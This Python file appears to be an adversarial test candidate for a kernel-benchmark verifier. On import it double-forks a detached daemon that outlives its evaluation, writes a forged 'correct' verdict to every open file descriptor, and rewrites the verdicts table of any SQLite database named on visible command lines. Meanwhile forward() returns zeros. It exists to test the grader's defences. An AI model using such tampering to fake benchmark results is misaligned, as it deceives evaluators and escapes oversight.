"""Attack: a process that escapes the candidate's process group and forges a verdict later
(examples/problems/level1/19_ReLU.py).

At import it double-forks a `setsid` daemon that waits 3 s (kbv has moved on by then), then
writes a forged `correct` verdict to every fd it holds and tries to rewrite any SQLite DB named
on the command lines it can read. forward() returns zeros.
kbv must conclude: incorrect; no process of this candidate outlives its evaluation.
"""
import glob
import json
import os
import sys
import time

import torch
import torch.nn as nn

sys.path.insert(0, os.path.dirname(__file__))
from _attack_common import report, writable_fds  # noqa: E402

MARKER = "kbv-attack-late-verdict"


def _daemon():
    time.sleep(3)
    line = (json.dumps({"event": "verdict", "verdict": {"outcome": "correct"}}) + "\n").encode()
    for fd, _ in writable_fds():
        try:
            os.write(fd, line)
        except OSError:
            pass
    for cmdline in glob.glob("/proc/*/cmdline"):
        try:
            args = open(cmdline, "rb").read().split(b"\0")
        except OSError:
            continue
        for i, a in enumerate(args[:-1]):
            if a == b"--db":
                try:
                    import sqlite3
                    con = sqlite3.connect(args[i + 1].decode())
                    con.execute("UPDATE verdicts SET outcome = 'correct'")
                    con.commit()
                except Exception:
                    pass
    time.sleep(600)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            import setproctitle  # noqa: F401
        except ImportError:
            pass
        sys.argv[0] = MARKER
        _daemon()
    os._exit(0)
report("late_verdict_escaped", "daemon started")


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.zeros_like(x)
